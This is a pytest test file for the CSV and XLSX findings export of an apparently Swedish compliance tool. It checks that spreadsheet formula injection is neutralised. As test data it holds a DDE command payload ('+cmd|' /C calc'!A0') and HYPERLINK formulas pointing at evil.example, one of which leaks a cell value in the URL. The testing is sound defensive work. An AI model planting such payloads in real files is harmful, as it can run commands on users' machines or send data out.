"""The findings table (CSV and XLSX): Swedish headers, one row per finding, amounts exact, and
no text from a district file or a reviewer can become a formula in Excel."""
from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from builders import StubClassifier, classification
from compliance.cli import main
from compliance.export import COLUMNS, export, neutralised
from compliance.ingest import ingest_file
from compliance.models import Allocation, AllocationTable, Decision, Verdict
from compliance.review import review

FORMULAS = Path(__file__).resolve().parents[1] / "hostile" / "files" / "formler_i_text.csv"
EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def reviewed():
    """The formula file reviewed as Farsta's, every line unclear (so every line has a finding),
    and a decision whose motivation and reviewer are formulas too."""
    lines = ingest_file(FORMULAS).lines
    stub = StubClassifier(classification(line.id, "ovrigt", "ovrigt", (), unclear=True, score=0.2) for line in lines)
    table = AllocationTable(city="Teststad", year=2022, allocations=[Allocation(recipient="Farsta",
                                                                                amount=Decimal("20000.00"))])
    decision = Decision(line_id=lines[0].id, district="Farsta", rule="oklar-beskrivning", verdict=Verdict.accept,
                        motivation='=HYPERLINK("http://evil.example","ok")', reviewer="@SUM(A1:A9)")
    return review([FORMULAS], year=2022, allocation=table, district="Farsta", classifier=stub, decisions=[decision])


def _findings(result) -> list:
    return [f for d in result.districts for f in [*(x for r in d.lines for x in r.findings), *d.findings]] + \
        list(result.findings)


def _count(result) -> int:
    return len(_findings(result))


@pytest.mark.parametrize("text, shown", [
    ('=HYPERLINK("http://x","klick")', '\'=HYPERLINK("http://x","klick")'), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1 200,50", "-1 200,50"),
    ("+46", "+46"), ("Kurs = bra", "Kurs = bra"), ("", ""),
])
def test_formula_text_is_neutralised_numbers_are_not(text, shown):
    assert neutralised(text) == shown


def test_csv_export_has_swedish_headers_exact_amounts_and_no_formulas(reviewed):
    content = export(reviewed, "csv")
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert tuple(rows[0]) == COLUMNS and len(rows) - 1 == _count(reviewed)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(DANGEROUS) or cell.replace(",", "").lstrip("-").isdigit(), cell
    descriptions = {row[COLUMNS.index("Beskrivning")] for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?q="&A1;"klicka")' in descriptions
    assert "'+cmd|' /C calc'!A0" in descriptions and "Tabb först" in descriptions
    decided = [row for row in rows[1:] if row[COLUMNS.index("Beslut")]]
    assert [(r[COLUMNS.index("Motivering")], r[COLUMNS.index("Beslutat av")]) for r in decided] == [
        ('\'=HYPERLINK("http://evil.example","ok")', "'@SUM(A1:A9)")]
    amounts = sorted(Decimal(row[COLUMNS.index("Radens belopp")].replace(",", ".")) for row in rows[1:]
                     if row[COLUMNS.index("Radens belopp")])
    assert amounts == sorted(r.line.amount for r in reviewed.districts[0].lines for _ in r.findings)


def test_xlsx_export_has_no_formula_cells_and_numbers_as_numbers(reviewed):
    sheet = load_workbook(io.BytesIO(export(reviewed, "xlsx"))).active
    rows = list(sheet.iter_rows())
    assert tuple(c.value for c in rows[0]) == COLUMNS and len(rows) - 1 == _count(reviewed)
    for row in rows[1:]:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            assert not (isinstance(cell.value, str) and cell.value.startswith(DANGEROUS)), cell.value
    at_risk = [row[COLUMNS.index("Belopp i risk")].value for row in rows[1:]]
    assert all(isinstance(value, (int, float)) for value in at_risk)
    expected = sorted(f.amount_at_risk for f in _findings(reviewed))
    assert sorted(Decimal(str(value)).quantize(Decimal("0.01")) for value in at_risk) == expected


def test_the_export_command_writes_both_formats(tmp_path):
    runner = CliRunner()
    files = [EXAMPLES / "2022" / "utfall_sodermalm_2022.csv"]
    for fmt in ("csv", "xlsx"):
        output = tmp_path / f"anmarkningar.{fmt}"
        result = runner.invoke(main, ["export", *map(str, files), "--year", "2022", "--allocation",
                                      str(EXAMPLES / "allocations" / "stockholm-2022.yaml"), "--format", fmt,
                                      "--output", str(output)])
        assert result.exit_code == 0, result.output
        assert output.stat().st_size > 0 and "anmärkningar" in result.output
    rows = list(csv.reader(io.StringIO((tmp_path / "anmarkningar.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    workbook = load_workbook(tmp_path / "anmarkningar.xlsx").active
    assert workbook.max_row == len(rows) > 3                   # the same findings in both


def test_export_needs_a_format_and_reports_bad_input_in_swedish(tmp_path):
    runner = CliRunner()
    table = str(EXAMPLES / "allocations" / "stockholm-2022.yaml")
    missing = runner.invoke(main, ["export", str(FORMULAS), "--year", "2022", "--allocation", table,
                                   "--output", str(tmp_path / "x.csv")])
    assert missing.exit_code == 2 and "--format" in missing.output
    broken = Path(__file__).resolve().parents[1] / "hostile" / "files" / "dubbel_rubrik.csv"
    result = runner.invoke(main, ["export", str(broken), "--year", "2022", "--allocation", table, "--format", "csv",
                                  "--output", str(tmp_path / "x.csv")])
    assert result.exit_code == 2 and "finns två gånger" in result.stderr and not (tmp_path / "x.csv").exists()
